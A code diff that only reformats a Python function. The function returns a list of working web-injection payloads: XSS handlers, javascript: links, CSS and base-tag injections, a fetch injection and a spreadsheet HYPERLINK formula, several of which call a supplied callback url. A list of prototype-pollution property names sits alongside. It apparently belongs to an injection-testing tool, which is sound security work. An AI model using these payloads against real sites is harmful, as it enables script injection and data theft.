@@ -49,14 +49,14 @@ def payloads(url: str) -> dict[str, str]:
         "escaped script state": "<!--<script>",
         "end of a comment": f"--><img src=x onerror='{js}'>",
         "cdata": f"]]><script>{js}</script>",
-        "image": f"<img src=x onerror=\"{js}\">",
+        "image": f'<img src=x onerror="{js}">',
         "image from elsewhere": f"<img src='{url}/image.png' srcset='{url}/set.png 2x'>",
         "vector image": f"<svg onload=\"{js}\"><animate onbegin='{js}' attributeName=x dur=1s>",
         "link": f'<a href="javascript:{js}" id=link>press</a>',
         "bare link": f"javascript:{js}",
         "link of data": f"data:text/html,<script>{js}</script>",
         "markdown": f"[press](javascript:{js}) ![seen]({url}/markdown.png)",
-        "attribute": f"\" onmouseover=\"{js}\" autofocus onfocus=\"{js}\" x=\"",
+        "attribute": f'" onmouseover="{js}" autofocus onfocus="{js}" x="',
         "attribute, single": f"' onmouseover='{js}' style='background:url({url}/attribute)' x='",
         "attribute, bare": f"x onclick={js} tabindex=0",
         "frame": f"<iframe src='{url}/frame' srcdoc='<script>parent.{js}</script>'></iframe>",
@@ -64,24 +64,34 @@ def payloads(url: str) -> dict[str, str]:
         "style": f"</style><style>*{{background:url({url}/style)!important}}@import '{url}/import.css';</style>",
         "style value": f"red;}} *{{display:none}} x{{background:url('{url}/value')",
         "base": f"<base href='{url}/'><link rel=stylesheet href='{url}/sheet.css'>",
-        "refresh": f"<meta http-equiv=refresh content=\"0;url={url}/refreshed\">",
+        "refresh": f'<meta http-equiv=refresh content="0;url={url}/refreshed">',
         "form": f"<form action='{url}/form'><input autofocus onfocus='{js}'><button id=submit>go</button></form>",
         "textarea": f"</textarea></title></template></noscript><img src=x onerror='{js}'>",
         "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}{% raw %}",
-        "json": f"\"}}];{js};//",
+        "json": f'"}}];{js};//',
         "json, single": f"'}}]);{js};/*",
-        "back slash": f"\\\";{js};//\\",
+        "back slash": f'\\";{js};//\\',
         "back tick": f"`;{js};`${{{js}}}",
-        "request": f"\");{fetch};(\"",
+        "request": f'");{fetch};("',
         "entity": f"&lt;img src=x onerror={js}&gt;&#60;script&#62;&quot;",
-        "formula": "=HYPERLINK(\"" + url + "/formula\")",
+        "formula": '=HYPERLINK("' + url + '/formula")',
         "template element": f"<template shadowrootmode=open><script>{js}</script></template>",
         "popover": f"<div id=report popover onbeforetoggle='{js}'></div><body onload='{js}' onhashchange='{js}'>",
         "clobbered": "<form id=getElementById name=body><input name=children id=location></form>",
     }
 
 
-NAMES = ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "valueOf", "then", "length")
+NAMES = (
+    "__proto__",
+    "constructor",
+    "prototype",
+    "toString",
+    "hasOwnProperty",
+    "__defineGetter__",
+    "valueOf",
+    "then",
+    "length",
+)
 """What every object of JavaScript has, or is taken for."""
 
 
